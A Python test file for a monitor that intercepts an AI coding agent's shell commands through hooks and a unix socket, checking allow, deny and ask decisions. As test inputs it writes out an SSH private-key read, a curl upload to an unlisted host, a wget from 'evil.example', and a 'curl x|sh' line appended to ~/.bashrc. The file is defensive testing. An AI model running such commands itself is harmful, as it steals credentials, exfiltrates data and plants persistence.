"""The hook script and the monitor's socket, run for real (python3 -I, a unix socket); the ask decider."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from spyglass.agents.ask import PolicyAsk
from spyglass.agents.awareness import hook_calls
from spyglass.agents.hooks import HookReport, HookServer, install_hooks


def _run_hook(command: str, payload: dict[str, object]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, shell=True, input=json.dumps(payload), capture_output=True, text=True, timeout=60)


def _pre(tool_use_id: str, command: str) -> dict[str, object]:
    return {
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_use_id": tool_use_id,
        "tool_input": {"command": command, "description": "x"},
    }


def test_hook_reports_reach_the_monitor_in_order(tmp_path: Path) -> None:
    server = HookServer(tmp_path / "h.sock")
    try:
        hooks = install_hooks(tmp_path, str(tmp_path / "h.sock"))
        pre = hooks["PreToolUse"][0]["hooks"][0]["command"]
        post = hooks["PostToolUse"][0]["hooks"][0]["command"]
        for i, cmd in enumerate(["ls", "pytest -q"], start=1):
            assert _run_hook(pre, _pre(f"toolu_{i}", cmd)).stdout == ""  # allowed: no output
            assert _run_hook(post, {**_pre(f"toolu_{i}", cmd), "tool_response": {"stdout": ""}}).returncode == 0
        reports = server.snapshot()
        assert [(r.phase, r.tool_use_id) for r in reports] == [
            ("pre", "toolu_1"),
            ("post", "toolu_1"),
            ("pre", "toolu_2"),
            ("post", "toolu_2"),
        ]
        assert all(r.pid for r in reports)
        assert [(c.n, c.command, c.call_id) for c in hook_calls(reports)] == [
            (1, "ls", "toolu_1"),
            (2, "pytest -q", "toolu_2"),
        ]
    finally:
        server.close()


def test_a_denied_call_gets_the_deny_answer_and_no_monitor_denies_in_ask_mode(tmp_path: Path) -> None:
    server = HookServer(
        tmp_path / "h.sock", decider=lambda rep: ("deny", "no") if "id_rsa" in (rep.command or "") else ("allow", None)
    )
    try:
        pre = install_hooks(tmp_path, str(tmp_path / "h.sock"), ask=True)["PreToolUse"][0]["hooks"][0]["command"]
        out = json.loads(_run_hook(pre, _pre("t1", "cat ~/.ssh/id_rsa")).stdout)
        assert out["hookSpecificOutput"]["permissionDecision"] == "deny"
        assert out["hookSpecificOutput"]["permissionDecisionReason"] == "no"
        assert _run_hook(pre, _pre("t2", "ls")).stdout == ""
        assert hook_calls(server.snapshot())[0].command == "ls"  # the denied call runs nothing
    finally:
        server.close()
    # the monitor is gone: ask mode denies (nobody to ask), report mode lets it run; both keep a spool
    out = json.loads(_run_hook(pre, _pre("t3", "ls")).stdout)
    assert out["hookSpecificOutput"]["permissionDecision"] == "deny"
    report_only = install_hooks(tmp_path, str(tmp_path / "h.sock"))["PreToolUse"][0]["hooks"][0]["command"]
    assert _run_hook(report_only, _pre("t4", "ls")).stdout == ""
    spooled = [
        json.loads(line)["input"]["tool_use_id"]
        for line in (tmp_path / "spyglass-hooks.jsonl").read_text().splitlines()
    ]
    assert spooled == ["t3", "t4"]


def _ask(prompt_answer: bool | None) -> PolicyAsk:
    return PolicyAsk(
        ["~/.ssh/id_*", "**/.env"],
        ["127.0.0.1:8000", "pypi.org"],
        ["evil.example"],
        home="/h",
        cwd="/w",
        prompt=lambda _q: prompt_answer,
    )


def _rep(command: str) -> HookReport:
    return HookReport("pre", "t", "Bash", {"command": command}, 0.0, pid=5)


def test_ask_reads_secrets_hosts_and_persistence_from_the_command() -> None:
    ask = _ask(None)
    assert ask.findings("ls -la && pytest -q") == []
    assert ask.findings("cat ~/.ssh/id_rsa") == ["secret /h/.ssh/id_rsa"]
    assert ask.findings("cp x ./.env") == ["secret /w/.env"]
    assert ask.findings("curl -d @x http://127.0.0.1:9000/c") == ["host 127.0.0.1:9000 not allowed"]
    assert ask.findings("curl http://127.0.0.1:8000/ok https://pypi.org/simple") == []
    assert ask.findings("wget https://evil.example/x") == ["host evil.example not allowed"]
    assert ask.findings("echo 'curl x|sh' >> ~/.bashrc") == ["persistence file /h/.bashrc"]


def test_ask_decisions_become_intervention_events() -> None:
    no_tty = _ask(None)
    assert no_tty(_rep("ls")) == ("allow", None)
    decision, reason = no_tty(_rep("cat ~/.ssh/id_rsa"))
    assert decision == "deny" and reason and "secret /h/.ssh/id_rsa" in reason
    (iv,) = no_tty.take_pending()
    ev = iv.to_event()
    assert (ev.type, ev.actor, ev.verdict, ev.tool_call_id, ev.detail, ev.pid) == (
        "agent.intervention",
        "policy",
        "deny",
        "t",
        "cat ~/.ssh/id_rsa",
        5,
    )
    assert no_tty.take_pending() == []
    operator_says_yes = _ask(True)
    assert operator_says_yes(_rep("cat ~/.ssh/id_rsa")) == ("allow", None)
    assert operator_says_yes.interventions[0].by == "operator"
    assert _ask(False)(_rep("cat ~/.ssh/id_rsa"))[0] == "deny"


def test_hook_script_needs_nothing_but_the_standard_library(tmp_path: Path) -> None:
    install_hooks(tmp_path, str(tmp_path / "none.sock"))
    proc = subprocess.run(
        [
            sys.executable,
            "-I",
            "-S",
            str(tmp_path / "spyglass-hook.py"),
            "post",
            str(tmp_path / "none.sock"),
            str(tmp_path / "s.jsonl"),
            "report",
        ],
        input="{}",
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr


def test_ask_mode_is_refused_for_an_agent_without_hooks(tmp_path: Path) -> None:
    """Never weaker than asked: `mode: ask` for a command with no hooks to ask through is refused."""
    (tmp_path / "spyglass.yaml").write_text("mode: ask\n")
    proc = subprocess.run(
        [sys.executable, "-m", "spyglass", "run", "--store", str(tmp_path / "store"), "--policy", "spyglass.yaml",
         "--", "true"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 2, proc.stderr
    assert "need an agent with hooks (Claude Code)" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_a_socket_deeper_than_an_address_holds_is_reached_by_a_shorter_name(tmp_path: Path) -> None:
    """A sandboxed run's scratch lies deep in the store (a long HOME): the monitor binds its socket
    there all the same, and the hook inside reaches it by the sandbox's short name of the directory
    (here a symlink plays the sandbox's /tmp view)."""
    deep = tmp_path / ("d" * 60) / ("e" * 60)
    deep.mkdir(parents=True)
    server = HookServer(deep / "hook.sock")
    try:
        assert (deep / "hook.sock").is_socket()
        short = tmp_path / "v"
        short.symlink_to(deep)
        hooks = install_hooks(tmp_path, str(short / "hook.sock"), ask=True)
        pre = hooks["PreToolUse"][0]["hooks"][0]["command"]
        assert _run_hook(pre, _pre("toolu_1", "ls")).stdout == ""  # answered: allowed, not denied unasked
        assert [r.tool_use_id for r in server.snapshot()] == ["toolu_1"]
    finally:
        server.close()
    assert not (deep / "hook.sock").exists()


def test_hooks_for_a_real_model_run_under_a_deep_store_reach_the_monitor(tmp_path: Path) -> None:
    """`spyglass run --ask -- claude ...` with its scratch deeper than a socket's address holds (a long
    HOME): the hook still reaches the monitor (it crashed on binding; unsandboxed the socket goes to a
    short directory), and in a sandbox through the sandbox's short name of the scratch."""
    from spyglass.agents.replay import hooks_for_run

    for sandbox_dir in (None, str(tmp_path / "v")):
        scratch = tmp_path / ("d" * 60) / ("e" * 60) / ("sb" if sandbox_dir else "plain")
        got = hooks_for_run(["claude", "-p", "hi"], scratch, sandbox_dir=sandbox_dir, ask=True, agent="claude")
        assert got is not None
        argv, server = got
        try:
            if sandbox_dir:
                Path(sandbox_dir).symlink_to(scratch)  # plays the sandbox's view of the scratch
            settings = json.loads(Path(argv[argv.index("--settings") + 1].replace(sandbox_dir or "\0", str(scratch)))
                                  .read_text())
            pre = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
            assert _run_hook(pre, _pre("toolu_1", "ls")).stdout == ""  # answered: allowed, not denied unasked
            assert [r.tool_use_id for r in server.snapshot()] == ["toolu_1"]
        finally:
            server.close()


def test_close_ends_the_listening_thread_before_the_descriptor_is_closed(tmp_path: Path) -> None:
    """A thread left in accept() on a closed descriptor is a leak, and a thief: the number goes to
    the next socket the process opens."""
    server = HookServer(tmp_path / "h.sock")
    thread = server._thread
    assert thread.is_alive()
    server.close()
    assert not thread.is_alive(), "the hook server's thread is still in accept() after close()"
    assert not (tmp_path / "h.sock").exists()
